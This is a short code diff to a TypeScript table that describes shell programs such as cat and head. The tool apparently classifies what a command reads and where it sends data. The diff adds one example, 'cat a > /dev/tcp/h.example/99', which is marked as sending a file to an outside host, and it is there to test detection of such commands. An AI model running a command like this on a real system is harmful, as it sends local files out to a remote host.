@@ -16,7 +16,11 @@ export const textPrograms: readonly ProgramEntry[] = [
     options: plain(
       "-A --show-all, -b --number-nonblank, -e, -E --show-ends, -n --number, -s --squeeze-blank, -t, -T --show-tabs, -u, -v --show-nonprinting, -l, --before, --regex, --separator SEP",
     ),
-    examples: { "cat a ~/b": { reads: ["a", "~/b"] }, "cat <<< hi": { stdin: ["literal"], reads: [] } },
+    examples: {
+      "cat a > /dev/tcp/h.example/99": { reads: ["a"], hosts: ["h.example"], sends: ["file"] },
+      "cat a ~/b": { reads: ["a", "~/b"] },
+      "cat <<< hi": { stdin: ["literal"], reads: [] },
+    },
   },
   {
     names: ["head", "tail", "ghead", "gtail"],
